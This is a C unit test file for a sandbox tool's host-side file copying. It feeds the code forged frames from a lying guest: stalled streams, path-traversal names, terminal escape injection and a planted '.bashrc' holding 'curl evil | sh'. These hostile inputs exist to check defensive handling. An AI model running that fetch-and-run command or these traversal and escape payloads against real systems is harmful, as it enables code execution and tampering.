/* Unit tests of file transfers against a guest that lies (src/lib/files.c, xfer.c):
 * a stand-in monitor on a socketpair plays back forged frames, so the host side of
 * cocoon cp / cocoon_file_read meets what a real agent never sends: a stall in the
 * middle of a stream, endless chatter without data, names outside the copy, terminal
 * escapes in its error text, extra files. Also the bounds' environment variables. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "lib/internal.h"
#include "lib/tar_reader.h"
#include "tar_forge.h"
#include "util/util.h"

static struct proto_writer W;
static char root[PATH_MAX], dest[PATH_MAX + 16];
static cocoon_error err;
static cocoon_box box;

static int setup(void **state)
{
    const char *base = getenv("TMPDIR");
    snprintf(root, sizeof(root), "%s/cocoon-test-xfer.XXXXXX", base && *base ? base : "/tmp");
    if (!mkdtemp(root))
        return -1;
    snprintf(dest, sizeof(dest), "%s/dest", root);
    memset(&box, 0, sizeof(box));
    snprintf(box.id, sizeof(box.id), "testbox");
    return mkdir(dest, 0755);
}

static int teardown(void **state) { return util_rm_rf(root); }

/* ---- forged frames ---- */

static void frame(struct forge *f, size_t n)
{
    assert_int_not_equal(n, 0);
    fg_raw(f, W.buf, n);
}

static void hello_started(struct forge *f)
{
    struct proto_vmm_hello h = {.version = 1};
    frame(f, proto_encode_vmm_hello(&W, &h));
    struct proto_started s = {.pid = 42, .window = 1 << 20};
    frame(f, proto_encode_started(&W, 1, &s));
}

static void out_data(struct forge *f, uint16_t type, const void *p, size_t n)
{
    for (size_t off = 0; off < n; off += 60000) {
        size_t k = n - off < 60000 ? n - off : 60000;
        frame(f, proto_encode_data(&W, 1, type, (const uint8_t *)p + off, k));
    }
}

static void out_exit(struct forge *f, int code)
{
    struct proto_exit e = {.code = code};
    frame(f, proto_encode_exit(&W, 1, &e));
}

/* ---- the stand-in monitor ---- */

struct fake {
    int fd;
    struct forge out;
    size_t off, loop_from; /* after the end, start again at loop_from (0: stop sending) */
    int record;            /* keep what the client sends in `in` (its first 8 MiB) */
    struct forge in;
    size_t hold_at; /* when set: out beyond it only once the client sent STDIN_EOF */
    int got_eof;
    volatile int stop;
    pthread_t thread;
};

/* The frames in buf (whole ones) hold a STDIN_EOF. */
static int sent_eof(const struct forge *in)
{
    size_t off = 0;
    struct proto_header h;
    while (off + PROTO_HEADER_SIZE <= in->len && proto_header_decode(in->buf + off, in->len - off, &h) == PROTO_OK) {
        if (h.type == PROTO_STDIN_EOF)
            return 1;
        off += PROTO_HEADER_SIZE + h.len;
    }
    return 0;
}

static void *fake_main(void *arg)
{
    struct fake *f = arg;
    util_set_nonblock(f->fd, 1);
    for (;;) {
        size_t until = f->hold_at && !f->got_eof ? f->hold_at : f->out.len;
        struct pollfd p = {f->fd, (short)(POLLIN | (f->off < until ? POLLOUT : 0)), 0};
        if (poll(&p, 1, 20) <= 0) {
            if (f->stop) /* the client is gone and everything it sent was read */
                break;
            continue;
        }
        if (p.revents & POLLIN) {
            static char sink[65536];
            ssize_t n = read(f->fd, sink, sizeof(sink));
            if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR))
                break; /* the client is gone, and all it sent was read */
            if (n > 0 && f->record && f->in.len < (8u << 20))
                fg_raw(&f->in, sink, (size_t)n);
            if (f->record)
                f->got_eof |= sent_eof(&f->in);
        }
        if (p.revents & POLLOUT) {
            ssize_t n = write(f->fd, f->out.buf + f->off, until - f->off);
            if (n > 0)
                f->off += (size_t)n;
            if (f->off == f->out.len && f->loop_from)
                f->off = f->loop_from;
        }
        if ((p.revents & (POLLHUP | POLLERR)) && !(p.revents & POLLIN))
            break;
    }
    close(f->fd);
    return NULL;
}

/* A transfer to a stand-in monitor that plays f->out (idle limit 1 s). */
static struct lib_xfer *fake_start(struct fake *f)
{
    int sv[2];
    assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
    f->fd = sv[1];
    f->off = 0;
    f->stop = 0;
    assert_int_equal(pthread_create(&f->thread, NULL, fake_main, f), 0);
    memset(&err, 0, sizeof(err));
    struct lib_xfer *x = lib_xfer_attach(&box, sv[0], &err);
    assert_non_null(x);
    lib_xfer_set_timeouts(x, 1000, 0);
    return x;
}

static void fake_end(struct fake *f, struct lib_xfer *x)
{
    lib_xfer_close(x);
    f->stop = 1;
    pthread_join(f->thread, NULL);
    fg_free(&f->out);
}

/* What the client sent on its stream: the STDIN bytes joined, whether it sent
 * STDIN_EOF and SIGNAL. */
struct sent {
    struct forge stdin_bytes;
    int eof, signalled;
    struct proto_file file; /* the FILE_PUT or FILE_GET that opened the stream */
};

static void client_sent(struct fake *f, struct sent *s)
{
    memset(s, 0, sizeof(*s));
    size_t off = 0;
    while (off + PROTO_HEADER_SIZE <= f->in.len) {
        struct proto_header h;
        assert_int_equal(proto_header_decode(f->in.buf + off, f->in.len - off, &h), PROTO_OK);
        const uint8_t *p = f->in.buf + off + PROTO_HEADER_SIZE;
        if (h.type == PROTO_STDIN && h.len)
            fg_raw(&s->stdin_bytes, p, h.len);
        s->eof |= h.type == PROTO_STDIN_EOF;
        if (h.type == PROTO_FILE_PUT || h.type == PROTO_FILE_GET)
            assert_int_equal(proto_decode_file(p, h.len, &s->file), PROTO_OK);
        s->signalled |= h.type == PROTO_SIGNAL;
        off += PROTO_HEADER_SIZE + h.len;
    }
    fg_free(&f->in);
}

static int copy_from(struct fake *f, const char *box_path)
{
    struct lib_xfer *x = fake_start(f);
    struct lib_copy_limits lim = {1 << 20, 1000, 1000, 0};
    int rc = lib_copy_from_xfer(x, box_path, dest, &lim, &err);
    fake_end(f, x);
    return rc;
}

static void assert_failed_with(int rc, int code, const char *needle)
{
    if (rc == 0 || err.code != code || !strstr(err.message, needle))
        fail_msg("expected failure %d with \"%s\", got rc=%d code=%d \"%s\"", code, needle, rc, err.code, err.message);
    for (const char *c = err.message; *c; c++)
        if ((unsigned char)*c < 0x20 || *c == 0x7f)
            fail_msg("control character 0x%02x in \"%s\"", (unsigned char)*c, err.message);
}

static void assert_dest_empty(void)
{
    char cmd[PATH_MAX + 64];
    snprintf(cmd, sizeof(cmd), "test -z \"$(ls -A '%s')\"", dest);
    if (system(cmd) != 0)
        fail_msg("the destination is not empty");
}

/* ---- tests ---- */

static void test_stall_mid_stream(void **state)
{
    struct fake f = {0};
    struct forge tar = {0};
    char data[100000];
    memset(data, 'd', sizeof(data));
    fg_dir(&tar, "x/", 0755);
    fg_entry(&tar, "x/big", '0', 0644, data, sizeof(data), NULL);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len / 2); /* then nothing, connection open */
    fg_free(&tar);
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO,
                       "box testbox: the transfer stalled: the guest sent nothing for 1 s");
    assert_non_null(strstr(err.message, "COCOON_CP_IDLE_TIMEOUT"));
    assert_dest_empty();
}

static void test_chatter_is_not_progress(void **state)
{
    struct fake f = {0};
    hello_started(&f.out);
    f.loop_from = f.out.len;
    out_data(&f.out, PROTO_STDERR, "still working...\n", 17);
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO, "stalled");
    assert_dest_empty();
}

static void test_deadline(void **state)
{
    struct fake f = {0};
    hello_started(&f.out);
    struct lib_xfer *x = fake_start(&f);
    lib_xfer_set_timeouts(x, 60000, 300);
    struct lib_copy_limits lim = {1 << 20, 1000, 60000, 300};
    int rc = lib_copy_from_xfer(x, "/g/x", dest, &lim, &err);
    fake_end(&f, x);
    assert_failed_with(rc, COCOON_E_IO, "did not finish within its timeout");
    assert_dest_empty();
}

static void test_names_outside_top(void **state)
{
    struct fake f = {0};
    struct forge tar = {0};
    fg_dir(&tar, "x/", 0755);
    fg_file(&tar, ".bashrc", 0644, "curl evil | sh\n");
    fg_end(&tar);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    out_exit(&f.out, 0);
    fg_free(&tar);
    assert_failed_with(copy_from(&f, "/g/x/"), COCOON_E_PROTOCOL,
                       "copy from testbox:/g/x/: the guest sent the name \".bashrc\", which is not inside \"x\"");
    assert_dest_empty();
}

static void test_verdict_after_whole_archive(void **state)
{
    /* a complete archive, then a failed EXIT: nothing is put in place */
    struct fake f = {0};
    struct forge tar = {0};
    fg_file(&tar, "x", 0644, "looks complete");
    fg_end(&tar);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    out_data(&f.out, PROTO_STDERR, "x: read error\n", 14);
    out_exit(&f.out, 1);
    fg_free(&tar);
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO, "copy from testbox:/g/x: x: read error");
    assert_dest_empty();
}

static void test_stream_ended_by_the_monitor(void **state)
{
    /* the monitor ends a stream whose guest ignored flow control with ERROR EPROTO
     * after STARTED: the copy fails at once with that reason, not at the idle limit */
    struct fake f = {0};
    struct forge tar = {0};
    fg_dir(&tar, "x/", 0755);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    fg_free(&tar);
    frame(&f.out, proto_encode_error(&W, 1, EPROTO, "the guest ignores flow control"));
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_PROTOCOL, "box testbox: the guest ignores flow control");
    assert_dest_empty();
}

static void test_guest_text_escaped(void **state)
{
    static const char evil[] = "x: \x1b[31mNo such file\x1b[0m\n\x1b]0;pwned\x07\ncocoon: copied 1 file\xff\n";
    struct fake f = {0};
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDERR, evil, sizeof(evil) - 1);
    out_exit(&f.out, 1);
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_NOT_FOUND,
                       "x: \\x1b[31mNo such file\\x1b[0m; \\x1b]0;pwned\\x07; cocoon: copied 1 file\\xff");
    assert_dest_empty();

    /* an ERROR message before STARTED: the same */
    memset(&f, 0, sizeof(f));
    struct proto_vmm_hello h = {.version = 1};
    frame(&f.out, proto_encode_vmm_hello(&W, &h));
    frame(&f.out, proto_encode_error(&W, 1, EACCES, "\x1b[2Jdenied\r\nby guest"));
    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_STATE, "\\x1b[2Jdenied; by guest");

    /* and the verdict of a copy into the box */
    char src[PATH_MAX + 16];
    snprintf(src, sizeof(src), "%s/src", root);
    assert_int_equal(util_write_file_atomic(src, "payload", 7), 0);
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDERR, evil, sizeof(evil) - 1);
    out_exit(&f.out, 1);
    struct lib_xfer *x = fake_start(&f);
    int rc = lib_copy_to_xfer(x, src, "/g/dst", &err);
    fake_end(&f, x);
    assert_failed_with(rc, COCOON_E_NOT_FOUND, "copy to testbox:/g/dst: x: \\x1b[31mNo such file");
}

/* ---- file operations (src/lib/fsops.c) against a lying guest ---- */

static int fsop(struct fake *f, int expect, struct lib_fsop_reply *r)
{
    struct lib_xfer *x = fake_start(f);
    static struct proto_file_op op = {.op = PROTO_FSOP_LIST, .path = "/d"};
    assert_int_equal(lib_fsop_reply_init(r, expect), 0);
    int rc = lib_fsop_xfer(x, &op, r, "/d");
    fake_end(f, x);
    return rc;
}

static void out_entries(struct forge *f, const char *name, uint32_t flags)
{
    proto_entries_begin(&W);
    struct proto_file_entry e = {.type = PROTO_FTYPE_REGULAR};
    snprintf(e.name, sizeof(e.name), "%s", name);
    if (name)
        assert_true(proto_entries_add(&W, &e));
    size_t n = proto_entries_finish(&W, flags);
    static uint8_t copy[PROTO_MAX_FRAME]; /* out_data encodes into W */
    memcpy(copy, W.buf, n);
    out_data(f, PROTO_STDOUT, copy, n);
}

static void test_fsop_lies(void **state)
{
    struct lib_fsop_reply r;
    /* honest: one entry, END, exit 0 */
    struct fake f = {0};
    hello_started(&f.out);
    out_entries(&f.out, "a", PROTO_FSOP_END);
    out_exit(&f.out, 0);
    assert_int_equal(fsop(&f, FSOP_EXPECT_LIST, &r), 0);
    assert_int_equal(r.count, 1);
    lib_fsop_reply_free(&r);

    /* a name with a slash: the guest broke the protocol, whatever its exit says */
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_entries(&f.out, "../../etc", PROTO_FSOP_END);
    out_exit(&f.out, 0);
    assert_failed_with(fsop(&f, FSOP_EXPECT_LIST, &r), COCOON_E_PROTOCOL,
                       "/d: the guest broke the file-operation protocol: a malformed FILE_ENTRIES");
    lib_fsop_reply_free(&r);

    /* exit 0 without the last frame: the answer may be cut, so it is refused */
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_entries(&f.out, "a", 0);
    out_exit(&f.out, 0);
    assert_failed_with(fsop(&f, FSOP_EXPECT_LIST, &r), COCOON_E_PROTOCOL, "ended without its last frame");
    lib_fsop_reply_free(&r);

    /* the guest's errno picks the category, its text is escaped */
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    static uint8_t copy[PROTO_MAX_FRAME];
    size_t n = proto_encode_error(&W, 1, ENOENT, "\x1b[31mNo such file or directory");
    memcpy(copy, W.buf, n);
    out_data(&f.out, PROTO_STDOUT, copy, n);
    out_exit(&f.out, 1);
    assert_failed_with(fsop(&f, FSOP_EXPECT_LIST, &r), COCOON_E_NOT_FOUND, "/d: \\x1b[31mNo such file or directory");
    lib_fsop_reply_free(&r);

    /* killed before it answered: the transfer's verdict */
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    struct proto_exit e = {.signal = 9};
    frame(&f.out, proto_encode_exit(&W, 1, &e));
    assert_failed_with(fsop(&f, FSOP_EXPECT_LIST, &r), COCOON_E_IO, "killed in the guest");
    lib_fsop_reply_free(&r);
}

static void test_file_read(void **state)
{
    struct fake f = {0};
    struct forge tar = {0};
    fg_file(&tar, "f", 0644, "content");
    fg_end(&tar);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    out_exit(&f.out, 0);
    fg_free(&tar);
    struct lib_xfer *x = fake_start(&f);
    void *data = NULL;
    size_t len = 0;
    assert_int_equal(lib_file_read_xfer(x, "/g/f", &data, &len, 100, &err), 0);
    fake_end(&f, x);
    assert_int_equal(len, 7);
    assert_string_equal(data, "content");
    free(data);

    /* more than the one file, endlessly */
    memset(&f, 0, sizeof(f));
    memset(&tar, 0, sizeof(tar));
    fg_file(&tar, "f", 0644, "content");
    fg_file(&tar, "g", 0644, "more");
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    fg_free(&tar);
    x = fake_start(&f);
    assert_failed_with(lib_file_read_xfer(x, "/g/f", &data, &len, 100, &err), COCOON_E_PROTOCOL,
                       "read testbox:/g/f: the guest sent more than the one file asked for");
    fake_end(&f, x);

    /* a stall in the middle of the file */
    memset(&f, 0, sizeof(f));
    memset(&tar, 0, sizeof(tar));
    char big[50000];
    memset(big, 'b', sizeof(big));
    fg_entry(&tar, "f", '0', 0644, big, sizeof(big), NULL);
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, 20000);
    fg_free(&tar);
    x = fake_start(&f);
    assert_failed_with(lib_file_read_xfer(x, "/g/f", &data, &len, 1 << 20, &err), COCOON_E_IO, "stalled");
    fake_end(&f, x);
}

/* ---- archive streams (tarstream.c) ---- */

struct outbuf {
    struct forge f;
    size_t calls;
};

static int out_write(void *user, const void *data, size_t len)
{
    struct outbuf *o = user;
    o->calls++;
    fg_raw(&o->f, data, len);
    return 0;
}

struct membuf {
    const uint8_t *p;
    size_t len, off;
};

static long membuf_read(void *arg, void *buf, size_t cap)
{
    struct membuf *m = arg;
    size_t k = m->len - m->off < cap ? m->len - m->off : cap;
    if (k)
        memcpy(buf, m->p + m->off, k);
    m->off += k;
    return (long)k;
}

/* 1 when b is a whole archive the strict reader reads to its end (its entries counted
 * in *entries), 0 when it is cut short or damaged. */
static int archive_complete(const struct forge *b, int *entries)
{
    struct membuf m = {b->buf, b->len, 0};
    struct tar_reader r;
    struct tar_entry *e = malloc(sizeof(*e));
    assert_non_null(e);
    assert_int_equal(tar_reader_init(&r, membuf_read, &m), 0);
    int n, count = 0;
    while ((n = tar_next(&r, e)) == 1)
        count++;
    tar_reader_free(&r);
    free(e);
    if (entries)
        *entries = count;
    return n == 0;
}

static struct lib_copy_limits big = {1ull << 40, 1000, 1000, 0};

static int tar_from(struct fake *f, const char *path, struct outbuf *o)
{
    struct lib_xfer *x = fake_start(f);
    memset(o, 0, sizeof(*o));
    int rc = lib_tar_from_xfer(x, path, out_write, o, 0, &big, &err);
    fake_end(f, x);
    return rc;
}

static void test_tar_from_box(void **state)
{
    /* a missing path: not found, and not a byte went out */
    struct fake f = {0};
    struct outbuf o;
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDERR, "nope: No such file or directory\n", 32);
    out_exit(&f.out, 1);
    assert_failed_with(tar_from(&f, "/g/nope", &o), COCOON_E_NOT_FOUND,
                       "copy from testbox:/g/nope: nope: No such file or directory");
    assert_int_equal(o.calls, 0);

    /* the whole tree, then the verdict: the archive ends only after EXIT 0 */
    struct forge tar = {0};
    fg_dir(&tar, "x/", 0755);
    fg_file(&tar, "x/f", 0644, "content");
    fg_end(&tar);
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    out_data(&f.out, PROTO_STDERR, "x/f: read: Input/output error\n", 30);
    out_exit(&f.out, 1);
    assert_failed_with(tar_from(&f, "/g/x", &o), COCOON_E_IO, "copy from testbox:/g/x: x/f: read: Input/output error");
    assert_false(archive_complete(&o.f, NULL));
    fg_free(&o.f);

    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len); /* then silence */
    assert_failed_with(tar_from(&f, "/g/x", &o), COCOON_E_IO, "stalled");
    assert_false(archive_complete(&o.f, NULL));
    fg_free(&o.f);

    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
    out_exit(&f.out, 0);
    fg_free(&tar);
    f.record = 1;
    struct lib_xfer *x = fake_start(&f);
    memset(&o, 0, sizeof(o));
    assert_int_equal(lib_tar_from_xfer(x, "/g/x/", out_write, &o, COCOON_TAR_FOLLOW, &big, &err), 0);
    fake_end(&f, x);
    int entries;
    assert_true(archive_complete(&o.f, &entries));
    assert_int_equal(entries, 2);
    fg_free(&o.f);
    struct sent sent;
    client_sent(&f, &sent);
    assert_string_equal(sent.file.path, "/g/x/");
    assert_int_equal(sent.file.flags, PROTO_FILE_FOLLOW);
    fg_free(&sent.stdin_bytes);
}

/* A caller's archive: the file "a" of n bytes, then extra entries. */
static void caller_archive(struct forge *t, size_t n, const char *evil)
{
    char *data = malloc(n);
    assert_non_null(data);
    memset(data, 'a', n);
    fg_entry(t, "a", '0', 0644, data, n, NULL);
    free(data);
    if (evil)
        fg_file(t, evil, 0644, "evil");
    fg_entry(t, "dev", '3', 0644, NULL, 0, NULL);
    fg_end(t);
}

static int tar_to(struct fake *f, struct forge *t, unsigned flags, struct sent *sent)
{
    struct membuf m = {t->buf, t->len, 0};
    f->record = 1;
    struct lib_xfer *x = fake_start(f);
    int rc = lib_tar_to_xfer(x, "/g/dir", membuf_read, &m, flags, &big, &err);
    fake_end(f, x);
    client_sent(f, sent);
    fg_free(t);
    return rc;
}

static void test_tar_to_box(void **state)
{
    /* the guest takes it all and says yes after STDIN_EOF */
    struct fake f = {0};
    struct forge t = {0};
    struct sent sent;
    hello_started(&f.out);
    f.hold_at = f.out.len;
    out_exit(&f.out, 0);
    caller_archive(&t, 300000, NULL);
    assert_int_equal(tar_to(&f, &t, COCOON_TAR_NO_OVERWRITE, &sent), 0);
    assert_int_equal(err.code, COCOON_OK);
    assert_string_equal(err.message, "dev: device, FIFO or socket skipped");
    assert_string_equal(sent.file.path, "/g/dir/"); /* into the directory, which must exist */
    assert_int_equal(sent.file.flags, PROTO_FILE_NO_REPLACE);
    int entries;
    assert_true(sent.eof && !sent.signalled && archive_complete(&sent.stdin_bytes, &entries));
    assert_int_equal(entries, 1);
    fg_free(&sent.stdin_bytes);

    /* refused in the middle, after the first file went out: the guest gets no end of
     * the archive and no STDIN_EOF, and is told to stop */
    memset(&f, 0, sizeof(f));
    hello_started(&f.out);
    caller_archive(&t, 300000, "/etc/evil");
    assert_failed_with(tar_to(&f, &t, 0, &sent), COCOON_E_INVALID,
                       "copy to testbox:/g/dir: the archive holds the name \"/etc/evil\", which is absolute");
    assert_true(sent.stdin_bytes.len > 0 && !sent.eof && sent.signalled);
    assert_false(archive_complete(&sent.stdin_bytes, NULL));
    fg_free(&sent.stdin_bytes);

    /* the guest's verdicts, as codes a server can answer with */
    static const struct {
        const char *says;
        int code;
    } verdicts[] = {{"a: exists and may not be replaced (overwriting is off)\n", COCOON_E_STATE},
                    {"/g/dir/: no such directory\n", COCOON_E_NOT_FOUND},
                    {"/g/dir/: not a directory\n", COCOON_E_INVALID},
                    {"a: write: No space left on device\n", COCOON_E_IO}};
    for (size_t i = 0; i < sizeof(verdicts) / sizeof(*verdicts); i++) {
        memset(&f, 0, sizeof(f));
        hello_started(&f.out);
        f.hold_at = f.out.len;
        out_data(&f.out, PROTO_STDERR, verdicts[i].says, strlen(verdicts[i].says));
        out_exit(&f.out, 1);
        caller_archive(&t, 10, NULL);
        assert_failed_with(tar_to(&f, &t, 0, &sent), verdicts[i].code, "copy to testbox:/g/dir: ");
        fg_free(&sent.stdin_bytes);
    }

    /* the guest refuses at once, in the middle of a large archive */
    memset(&f, 0, sizeof(f));
    struct proto_vmm_hello h = {.version = 1};
    frame(&f.out, proto_encode_vmm_hello(&W, &h));
    struct proto_started st = {.pid = 42, .window = 65536};
    frame(&f.out, proto_encode_started(&W, 1, &st));
    out_data(&f.out, PROTO_STDERR, "a: exists and may not be replaced (overwriting is off)\n", 55);
    out_exit(&f.out, 1);
    caller_archive(&t, 3 << 20, NULL);
    assert_failed_with(tar_to(&f, &t, COCOON_TAR_NO_OVERWRITE, &sent), COCOON_E_STATE,
                       "a: exists and may not be replaced");
    fg_free(&sent.stdin_bytes);
}

static void test_limits_from_env_and_options(void **state)
{
    struct lib_copy_limits l;
    unsetenv("COCOON_CP_MAX_BYTES");
    unsetenv("COCOON_CP_MAX_ENTRIES");
    unsetenv("COCOON_CP_IDLE_TIMEOUT");
    assert_int_equal(lib_copy_limits(NULL, &l, &err), 0);
    assert_true(l.max_bytes == LIB_CP_MAX_BYTES_DEFAULT && l.max_entries == LIB_CP_MAX_ENTRIES_DEFAULT &&
                l.idle_timeout_ms == LIB_XFER_IDLE_DEFAULT_MS && l.timeout_ms == 0);
    setenv("COCOON_CP_MAX_BYTES", "2G", 1);
    setenv("COCOON_CP_MAX_ENTRIES", "500", 1);
    setenv("COCOON_CP_IDLE_TIMEOUT", "5", 1);
    assert_int_equal(lib_copy_limits(NULL, &l, &err), 0);
    assert_true(l.max_bytes == 2ull << 30 && l.max_entries == 500 && l.idle_timeout_ms == 5000);
    cocoon_copy_options o;
    cocoon_copy_options_init(&o);
    o.max_bytes = 7;
    o.timeout_ms = 9;
    assert_int_equal(lib_copy_limits(&o, &l, &err), 0);
    assert_true(l.max_bytes == 7 && l.max_entries == 500 && l.timeout_ms == 9);
    o.size = offsetof(cocoon_copy_options, max_entries); /* an older caller: later fields unseen */
    o.max_entries = 1;
    assert_int_equal(lib_copy_limits(&o, &l, &err), 0);
    assert_true(l.max_bytes == 7 && l.max_entries == 500 && l.timeout_ms == 0);
    static const char *const bad[] = {"abc", "0", "-1", "12Q", "1G1", ""};
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        setenv("COCOON_CP_MAX_BYTES", bad[i], 1);
        int rc = lib_copy_limits(NULL, &l, &err);
        if (bad[i][0])
            assert_failed_with(rc, COCOON_E_INVALID, "COCOON_CP_MAX_BYTES=");
        else
            assert_int_equal(rc, 0);
    }
    setenv("COCOON_CP_IDLE_TIMEOUT", "5s", 1);
    assert_failed_with(lib_copy_limits(NULL, &l, &err), COCOON_E_INVALID, "COCOON_CP_IDLE_TIMEOUT=\"5s\"");
    unsetenv("COCOON_CP_MAX_BYTES");
    unsetenv("COCOON_CP_MAX_ENTRIES");
    unsetenv("COCOON_CP_IDLE_TIMEOUT");
}

int main(void)
{
    signal(SIGPIPE, SIG_IGN);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_stall_mid_stream, setup, teardown),
        cmocka_unit_test_setup_teardown(test_chatter_is_not_progress, setup, teardown),
        cmocka_unit_test_setup_teardown(test_deadline, setup, teardown),
        cmocka_unit_test_setup_teardown(test_names_outside_top, setup, teardown),
        cmocka_unit_test_setup_teardown(test_verdict_after_whole_archive, setup, teardown),
        cmocka_unit_test_setup_teardown(test_stream_ended_by_the_monitor, setup, teardown),
        cmocka_unit_test_setup_teardown(test_guest_text_escaped, setup, teardown),
        cmocka_unit_test_setup_teardown(test_fsop_lies, setup, teardown),
        cmocka_unit_test_setup_teardown(test_file_read, setup, teardown),
        cmocka_unit_test_setup_teardown(test_limits_from_env_and_options, setup, teardown),
        cmocka_unit_test_setup_teardown(test_tar_from_box, setup, teardown),
        cmocka_unit_test_setup_teardown(test_tar_to_box, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
